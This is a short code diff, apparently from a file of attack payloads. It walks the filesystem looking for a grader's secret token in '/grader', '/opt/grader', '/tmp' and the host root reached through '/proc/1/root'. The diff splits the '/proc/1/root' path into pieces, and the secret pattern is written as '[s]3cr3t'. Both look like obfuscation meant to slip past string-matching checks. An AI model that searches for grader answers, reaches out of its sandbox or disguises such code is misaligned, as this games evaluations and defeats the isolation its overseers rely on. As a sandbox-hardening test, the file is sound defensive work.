@@ -133,7 +133,8 @@ attack(
 import glob, os, re
 leaked = ""
 secret = re.compile(rb"[s]3cr3t")
-places = ["/grader", "/proc/1/" + "root/grader", "/proc/1/cwd/grader", "/opt/grader", "/tmp", "/run"]
+root = "/proc/1/" + "root"
+places = ["/grader", f"{root}/grader", "/proc/1/cwd/grader", "/opt/grader", "/tmp", "/run"]
 for place in places:
     for folder, _, names in os.walk(place):
         for name in names:
